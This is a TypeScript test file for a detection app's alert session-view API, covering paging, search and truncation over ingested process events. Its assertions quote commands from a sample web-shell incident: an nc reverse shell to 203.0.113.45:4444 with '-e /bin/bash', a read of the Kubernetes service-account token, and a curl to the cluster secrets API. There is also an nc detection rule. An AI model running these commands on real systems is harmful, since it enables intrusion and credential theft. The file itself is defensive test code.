/**
 * The session view's API through the real route handler, a real SQLite file and
 * events ingested through the real pipeline: the sample incident's web shell,
 * and a generated session of 3,001 processes for paging and truncation.
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { installBuiltinRules } from "@/lib/app/builtin-rules";
import { apiRequest, signedInUser } from "@/lib/auth/test-helpers";
import { prisma } from "@/lib/db/client";
import { setUpTestDatabase } from "@/lib/db/test-database-hooks";
import type { DetectionRule } from "@/lib/detection/detector";
import { ingestEvents } from "@/lib/ingest/ingest";
import type { AlertSession, SessionProcess } from "@/lib/session/session";
import { buildSessionTree } from "@/lib/session/tree";
import { GET } from "./route";

setUpTestDatabase();

const SAMPLE = path.join(import.meta.dirname, "..", "..", "..", "..", "..", "public", "samples", "incident-ecs.ndjson");
const NETWORK_TOOL = "Suspicious Network Tool Launched Inside A Container";

const REVERSE_SHELL_TOOL: DetectionRule = {
  id: "test-session-nc",
  name: "nc in the generated session",
  severity: "high",
  riskScore: 73,
  maxAlertsPerRun: 1_000,
  query: 'process where event.action == "exec" and process.name == "nc"',
  eventCategoryField: "event.category",
  timestampField: "@timestamp",
  tiebreakerField: null,
};

const SHELLS = 50;
const WORKERS_PER_SHELL = 59;
const BIG_SESSION = 1 + SHELLS + SHELLS * WORKERS_PER_SHELL;

let viewerCookie = "";

async function* bytes(text: string): AsyncGenerator<Uint8Array> {
  yield Buffer.from(text);
}

async function ingest(text: string, fileName: string, rules?: DetectionRule[]) {
  const report = await ingestEvents(bytes(text), { fileName, format: "auto", createdById: null, rules });
  expect(report.events.rejected).toBe(0);
  return report;
}

/**
 * A bash entry leader with 50 shells, each with 59 workers; every shell starts before any worker, so start
 * order and display order differ. Each process has an exec and an end event; worker 7 of shell 3 is nc.
 */
function generatedSession(): string {
  const base = Date.UTC(2026, 10, 24, 9);
  const lines: string[] = [];
  const leader = { entity_id: "gen-root", pid: 1000, name: "bash", executable: "/bin/bash" };
  const processEvents = (
    at: number,
    process: { entity_id: string; pid: number; name: string; args: string[] },
    parent: { entity_id: string; pid: number },
    exitCode: number,
  ) => {
    const common = {
      container: { id: "gen-container", name: "generated" },
      host: { name: "gen-node" },
      user: { name: "builder" },
    };
    const proc = {
      ...process,
      executable: `/usr/bin/${process.name}`,
      working_directory: "/srv/gen",
      parent,
      entry_leader: leader,
      session_leader: leader,
    };
    lines.push(
      JSON.stringify({
        "@timestamp": new Date(base + at).toISOString(),
        event: { category: ["process"], type: ["start"], action: "exec" },
        process: proc,
        ...common,
      }),
      JSON.stringify({
        "@timestamp": new Date(base + at + 500).toISOString(),
        event: { category: ["process"], type: ["end"], action: "end" },
        process: { ...proc, exit_code: exitCode },
        ...common,
      }),
    );
  };
  processEvents(0, { ...leader, args: ["bash", "--login"] }, { entity_id: "gen-sshd", pid: 900 }, 0);
  for (let shell = 0; shell < SHELLS; shell++) {
    const entity = `gen-shell-${shell}`;
    processEvents(
      1_000 + shell,
      { entity_id: entity, pid: 2000 + shell, name: "sh", args: ["sh", `job-${shell}`] },
      leader,
      0,
    );
  }
  for (let worker = 0; worker < WORKERS_PER_SHELL; worker++) {
    for (let shell = 0; shell < SHELLS; shell++) {
      const name = shell === 3 && worker === 7 ? "nc" : "worker";
      processEvents(
        10_000 + (worker * SHELLS + shell) * 10,
        {
          entity_id: `gen-worker-${shell}-${worker}`,
          pid: 10_000 + worker * SHELLS + shell,
          name,
          args: [name, `--shell=${shell}`, `--task=${worker}`],
        },
        { entity_id: `gen-shell-${shell}`, pid: 2000 + shell },
        worker % 10 === 9 ? 1 : 0,
      );
    }
  }
  lines.sort((a, b) => (JSON.parse(a)["@timestamp"] as string).localeCompare(JSON.parse(b)["@timestamp"]));
  return `${lines.join("\n")}\n`;
}

async function session(id: string, query = "", cookie = viewerCookie) {
  const response = await GET(apiRequest(`/api/alerts/${id}/session${query}`, { cookie }), {
    params: Promise.resolve({ id }),
  });
  return { status: response.status, body: (await response.json()) as AlertSession & { error?: { message: string } } };
}

const label = (row: SessionProcess) => row.commandLine ?? row.name;

beforeAll(async () => {
  await installBuiltinRules();
  viewerCookie = (await signedInUser("vera", "viewer")).cookie;
  await ingest(readFileSync(SAMPLE, "utf8"), "incident-ecs.ndjson");
  await prisma().rule.create({
    data: { ...REVERSE_SHELL_TOOL, description: "test", tiebreakerField: null },
  });
  await ingest(generatedSession(), "generated.ndjson", [REVERSE_SHELL_TOOL]);
}, 120_000);

describe("GET /api/alerts/:id/session: the sample incident's web shell", () => {
  async function ncAlert() {
    const alert = await prisma().alert.findFirst({
      where: { ruleName: NETWORK_TOOL, containerName: "php-fpm", processName: "nc", commandLine: { contains: "4444" } },
    });
    if (!alert) throw new Error("the sample's reverse shell raised no network tool alert");
    return alert;
  }

  it("lists the php-fpm entry leader's processes depth first, with details and the alerts inline", async () => {
    const alert = await ncAlert();
    const { status, body } = await session(alert.id, "?outline=true&limit=1000");
    expect(status).toBe(200);
    expect(body.grouping).toBe("entry_leader");
    expect(body.rootEntityId).toBe(alert.entryLeaderEntityId);
    expect(body.truncated).toBe(false);
    expect(body.nextCursor).toBeNull();
    expect(body.rows).toHaveLength(body.total);
    const [root] = body.rows;
    expect(root).toMatchObject({ row: 0, depth: 0, name: "php-fpm", userName: "root" });

    // only this entry leader's processes: not nginx's, not the health checks' own sessions
    expect(body.rows.some((row) => row.name === "cgi-fcgi" || row.name === "nginx")).toBe(false);

    const commands = body.rows.map(label);
    const shellAt = commands.indexOf("sh -c id");
    expect(shellAt).toBeGreaterThan(0);
    expect(body.rows[shellAt + 1]).toMatchObject({
      commandLine: "id",
      depth: (body.rows[shellAt]?.depth ?? 0) + 1,
      userName: "www-data",
      workingDirectory: "/var/www/html/wp-content/uploads/2026/11",
      exitCode: 0,
    });
    // siblings in start order
    expect(commands.indexOf("sh -c id")).toBeLessThan(commands.indexOf("sh -c uname -a"));
    expect(commands.indexOf("sh -c uname -a")).toBeLessThan(commands.indexOf("sh -c nslookup kx-updates.top"));

    const nc = body.rows.find((row) => row.entityId === alert.entityId);
    expect(nc).toMatchObject({ name: "nc", args: ["/tmp/nc", "203.0.113.45", "4444", "-e", "/bin/bash"] });
    expect(nc?.alertIds).toContain(alert.id);
    expect(body.alertRow).toBe(nc?.row);
    expect(body.alerts.find((found) => found.id === alert.id)).toMatchObject({ row: nc?.row, ruleName: NETWORK_TOOL });
    // the interactive bash below the reverse shell raised its own alert, shown on its row
    const interactive = body.rows.find((row) => row.commandLine === "bash -i");
    expect(interactive?.alertIds.length).toBeGreaterThan(0);
    expect(interactive?.depth).toBeGreaterThan(nc?.depth ?? 0);
    expect(interactive?.exitCode).toBe(0);
    expect(interactive?.end).toBe("2026-11-23T08:36:02.000Z");

    // the outline is the rows' shape
    expect(body.outline?.depth).toEqual(body.rows.map((row) => row.depth));
    expect(body.outline?.descendants).toEqual(body.rows.map((row) => row.descendants));
    expect(root?.descendants).toBe(body.total - 1);
  });

  it("searches the session's command lines", async () => {
    const alert = await ncAlert();
    const { body } = await session(alert.id, "?q=KUBERNETES&limit=1");
    expect(body.rows).toHaveLength(1);
    const { body: all } = await session(alert.id, "?limit=1000");
    const found = (body.matches ?? []).map((row) => all.rows[row]?.commandLine);
    expect(found).toEqual([
      "ls -la /var/run/secrets/kubernetes.io/serviceaccount",
      "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
      "curl -sk --max-time 5 https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
    ]);
  });
});

describe("GET /api/alerts/:id/session: a session of thousands of processes", () => {
  async function generatedAlert() {
    const alert = await prisma().alert.findFirst({ where: { ruleId: REVERSE_SHELL_TOOL.id } });
    if (!alert) throw new Error("the generated session raised no alert");
    return alert;
  }

  it("comes a page at a time, every process once, in display order", async () => {
    const alert = await generatedAlert();
    const rows: SessionProcess[] = [];
    let cursor: string | null = "";
    let pages = 0;
    while (cursor !== null) {
      const { status, body } = await session(alert.id, `?limit=700${cursor ? `&cursor=${cursor}` : ""}`);
      expect(status).toBe(200);
      expect(body.total).toBe(BIG_SESSION);
      expect(body.rows.length).toBeLessThanOrEqual(700);
      rows.push(...body.rows);
      cursor = body.nextCursor;
      pages++;
    }
    expect(pages).toBe(Math.ceil(BIG_SESSION / 700));
    expect(rows.map((row) => row.row)).toEqual([...Array(BIG_SESSION).keys()]);
    expect(new Set(rows.map((row) => row.entityId)).size).toBe(BIG_SESSION);

    // depth first although every shell started before any worker
    expect(rows.slice(0, 4).map((row) => [row.entityId, row.depth])).toEqual([
      ["gen-root", 0],
      ["gen-shell-0", 1],
      ["gen-worker-0-0", 2],
      ["gen-worker-0-1", 2],
    ]);
    const shell1 = rows.findIndex((row) => row.entityId === "gen-shell-1");
    expect(shell1).toBe(2 + WORKERS_PER_SHELL);
    expect(rows[1]).toMatchObject({ childCount: WORKERS_PER_SHELL, descendants: WORKERS_PER_SHELL });

    const nc = rows.find((row) => row.entityId === "gen-worker-3-7");
    expect(nc).toMatchObject({ name: "nc", alertIds: [alert.id], userName: "builder", workingDirectory: "/srv/gen" });
    expect(rows.find((row) => row.entityId === "gen-worker-3-9")?.exitCode).toBe(1);
    expect(rows.every((row) => row.commandLine !== null && row.pid !== null)).toBe(true);
  });

  it("answers the page holding the alert's process first when asked to (at=alert)", async () => {
    const alert = await generatedAlert();
    const { body } = await session(alert.id, "?at=alert&limit=100");
    expect(body.alertRow).not.toBeNull();
    const alertRow = body.alertRow ?? 0;
    expect(alertRow).toBeGreaterThan(100);
    expect(body.rows[0]?.row).toBe(Math.floor(alertRow / 100) * 100);
    expect(body.rows.find((row) => row.row === alertRow)?.entityId).toBe("gen-worker-3-7");
    expect(body.nextCursor).toBe(String((body.rows[0]?.row ?? 0) + 100));
  });

  it("stops at the process limit and says the session was truncated", async () => {
    const alert = await generatedAlert();
    const tree = await buildSessionTree(alert, 1_000);
    expect(tree?.truncated).toBe(true);
    expect(tree?.rows).toHaveLength(1_000);
    // level by level: the root and every shell are kept, the deepest level is cut
    expect(tree?.rows.filter((row) => row.depth <= 1)).toHaveLength(1 + SHELLS);
    const whole = await buildSessionTree(alert);
    expect(whole?.truncated).toBe(false);
  });
});

describe("GET /api/alerts/:id/session: without a session", () => {
  it("groups by the ancestry's root when the sensor names no entry or session leader", async () => {
    const events = [
      { id: "anc-init", parent: null, name: "init", at: 0 },
      { id: "anc-sshd", parent: "anc-init", name: "sshd", at: 1 },
      { id: "anc-nc", parent: "anc-sshd", name: "nc", at: 2 },
      { id: "anc-cron", parent: "anc-init", name: "cron", at: 3 },
    ].map((process) =>
      JSON.stringify({
        "@timestamp": new Date(Date.UTC(2026, 10, 25) + process.at * 1000).toISOString(),
        event: { category: ["process"], type: ["start"], action: "exec" },
        host: { name: "bare-host" },
        process: {
          entity_id: process.id,
          name: process.name,
          args: [process.name],
          ...(process.parent ? { parent: { entity_id: process.parent } } : {}),
        },
      }),
    );
    await ingest(`${events.join("\n")}\n`, "ancestry.ndjson", [REVERSE_SHELL_TOOL]);
    const alert = await prisma().alert.findFirst({ where: { entityId: "anc-nc" } });
    expect(alert).not.toBeNull();
    const { body } = await session(alert?.id ?? "");
    expect(body.grouping).toBe("ancestry");
    expect(body.rows.map((row) => [row.name, row.depth])).toEqual([
      ["init", 0],
      ["sshd", 1],
      ["nc", 2],
      ["cron", 1],
    ]);
    expect(body.rows[2]?.alertIds).toEqual([alert?.id]);
  });
});

describe("GET /api/alerts/:id/session: the request", () => {
  it("401 without credentials, 404 for an unknown alert", async () => {
    const alert = await prisma().alert.findFirstOrThrow();
    expect((await session(alert.id, "", "")).status).toBe(401);
    const missing = await session("no-such-alert");
    expect(missing.status).toBe(404);
  });

  it("400 naming the parameter for a bad cursor or limit", async () => {
    const alert = await prisma().alert.findFirstOrThrow();
    const badCursor = await session(alert.id, "?cursor=abc");
    expect(badCursor.status).toBe(400);
    expect(badCursor.body.error?.message).toContain("cursor");
    const badLimit = await session(alert.id, "?limit=5000");
    expect(badLimit.status).toBe(400);
    expect(badLimit.body.error?.message).toContain("limit");
  });
});
